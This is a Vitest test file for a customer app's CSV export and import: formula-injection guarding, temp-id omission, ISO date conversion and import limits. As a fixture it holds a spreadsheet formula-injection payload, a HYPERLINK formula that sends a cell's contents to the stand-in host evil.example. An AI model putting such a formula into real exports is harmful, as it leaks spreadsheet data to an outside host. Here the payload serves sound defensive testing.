// CSV export and import rules that need no service: every exported cell is safe to open in a
// spreadsheet, temp ids never leave, visit dates travel as ISO dates and come back in the
// account's unit, and the preview refuses what main's IPC would refuse (field length, rows).
import { describe, expect, it } from 'vitest';
import {
  autoMapColumns,
  checkRows,
  exportTable,
  MAX_IMPORT_ROWS,
} from '../../src-shared/csv-customers';
import { MAX_FIELD_CHARS, type Customer } from '../../src-shared/domain';
import { parseCsv, toCsv } from '../../src-renderer/src/features/import-export/csv-io';
import { customerRecord } from '../support/customer-record';

const customer = customerRecord;

/** Export then re-import through the real CSV text (papaparse both ways). */
function roundTrip(customers: Customer[], unit: 'seconds' | 'milliseconds' = 'seconds') {
  const parsed = parseCsv(toCsv(exportTable(customers)));
  return checkRows(parsed.rows, autoMapColumns(parsed.headers), [], undefined, unit);
}

// What a spreadsheet runs as a formula when a cell starts with it.
const FORMULA_START = /^[=+\-@\t\r]/;
const PLAIN_NUMBER = /^-?(\d+(\.\d*)?|\.\d+)$/;

describe('CSV export guards every cell against formula injection', () => {
  const hostile = '=HYPERLINK("http://evil.example/?"&A1,"click")';

  it('a group named like a formula is guarded, and imports back to the same group', () => {
    const table = exportTable([customer({ groups: [hostile] })]);
    const cell = table[1]![table[0]!.indexOf('groups')]!;
    expect(cell).not.toMatch(FORMULA_START);
    const [row] = roundTrip([customer({ groups: [hostile] })]);
    expect(row!.errors).toEqual([]);
    expect(row!.fields!.groups).toEqual([hostile]);
  });

  it('no cell of any column starts a formula (numbers excepted), and all round-trip', () => {
    const nasty: Partial<Customer> = {
      id: '@id1234567',
      name: '+cmd',
      company: '-2+3',
      address: '\tTab',
      notes: '\rCR',
      groups: ['@SUM(1)', 'b'],
      remindType: '=1',
      dealAmount: '-12',
      latitude: -33.5,
      longitude: -151.25,
      custom3: "'=already",
    };
    const table = exportTable([customer(nasty)]);
    for (const cell of table[1]!) {
      if (!PLAIN_NUMBER.test(cell)) expect(cell).not.toMatch(FORMULA_START);
    }
    const [row] = roundTrip([customer(nasty)]);
    expect(row!.errors).toEqual([]);
    const { id: _id, ...fields } = nasty;
    expect(row!.fields).toMatchObject({ ...fields, dealAmount: -12 });
  });

  it('never writes a temp id: a customer not yet on the service exports with no id', () => {
    const tempId = 'tmp_0f1e2d3c-4b5a-4969-8877-665544332211';
    const table = exportTable([customer({ id: tempId }), customer({ id: 'Server1234' })]);
    const idCol = table[0]!.indexOf('id');
    expect(table.map((r) => r[idCol])).toEqual(['id', '', 'Server1234']);
    expect(toCsv(table)).not.toContain('tmp_');
  });
});

describe('CSV dates: ISO out, the account unit in', () => {
  const at = Date.UTC(2023, 10, 14, 22, 13, 20);

  it('exports lastVisit and remindAt as ISO dates whatever the stored unit', () => {
    for (const scale of [1, 1000]) {
      const table = exportTable([customer({ lastVisit: (at / 1000) * scale, remindAt: 0 })]);
      const col = (name: string) => table[1]![table[0]!.indexOf(name)];
      expect(col('lastVisit')).toBe('2023-11-14T22:13:20.000Z');
      expect(col('remindAt')).toBe('');
    }
  });

  it('imports ISO dates in the account unit, and round-trips either unit', () => {
    const seconds = roundTrip([customer({ lastVisit: at / 1000, remindAt: at / 1000 + 60 })]);
    expect(seconds[0]!.fields).toMatchObject({ lastVisit: at / 1000, remindAt: at / 1000 + 60 });
    const ms = roundTrip([customer({ lastVisit: at, remindAt: 0 })], 'milliseconds');
    expect(ms[0]!.fields).toMatchObject({ lastVisit: at, remindAt: 0 });
    // A seconds value exported, then imported into a milliseconds account: now in ms.
    const moved = roundTrip([customer({ lastVisit: at / 1000 })], 'milliseconds');
    expect(moved[0]!.fields!.lastVisit).toBe(at);
  });

  it('reads a date alone as UTC midnight, keeps whole numbers, refuses what is no date', () => {
    const rows = [
      ['N', '2024-03-01', '2024-03-02 10:30'],
      ['N2', '1700000000', ''],
      ['N3', 'next tuesday', ''],
    ];
    const mapping = autoMapColumns(['name', 'lastVisit', 'remindAt']);
    const checked = checkRows(rows, mapping, [], undefined, 'milliseconds');
    expect(checked[0]!.fields).toMatchObject({
      lastVisit: Date.UTC(2024, 2, 1),
      remindAt: Date.UTC(2024, 2, 2, 10, 30),
    });
    expect(checked[1]!.fields!.lastVisit).toBe(1_700_000_000);
    expect(checked[2]!.errors).toEqual(['lastVisit: "next tuesday" is not a date']);
  });
});

describe('the import preview refuses what main would refuse', () => {
  it('a field over the length limit is an error of that row', () => {
    const long = 'x'.repeat(MAX_FIELD_CHARS + 1);
    const rows = [
      ['Ok', 'short'],
      ['Too long', long],
      [long, ''],
    ];
    const checked = checkRows(rows, ['name', 'notes'], []);
    expect(checked[0]!.errors).toEqual([]);
    expect(checked[1]!.fields).toBeNull();
    expect(checked[1]!.errors).toEqual([`notes: longer than ${MAX_FIELD_CHARS} characters`]);
    expect(checked[2]!.errors).toEqual([`name: longer than ${MAX_FIELD_CHARS} characters`]);
  });

  it('too many groups in one cell is an error of that row', () => {
    const groups = Array.from({ length: 10_001 }, (_, i) => `g${i}`).join('; ');
    const [row] = checkRows([['Many', groups]], ['name', 'groups'], []);
    expect(row!.fields).toBeNull();
    expect(row!.errors).toEqual(['groups: more than 10000 groups']);
  });

  it(`rows past ${MAX_IMPORT_ROWS} importable ones are errors, so start never gets too many`, () => {
    const rows = Array.from({ length: MAX_IMPORT_ROWS + 3 }, (_, i) => [`Row ${i}`]);
    rows[5] = ['']; // invalid rows do not count against the limit
    const checked = checkRows(rows, ['name'], []);
    const importable = checked.filter((r) => r.fields !== null && !r.duplicateOf);
    expect(importable).toHaveLength(MAX_IMPORT_ROWS);
    const over = checked.filter((r) => r.errors.some((e) => e.startsWith('row limit')));
    expect(over.map((r) => r.index)).toEqual([MAX_IMPORT_ROWS + 1, MAX_IMPORT_ROWS + 2]);
    expect(over[0]!.errors).toEqual([
      `row limit: one import takes at most ${MAX_IMPORT_ROWS.toLocaleString('en')} customers`,
    ]);
  });
});
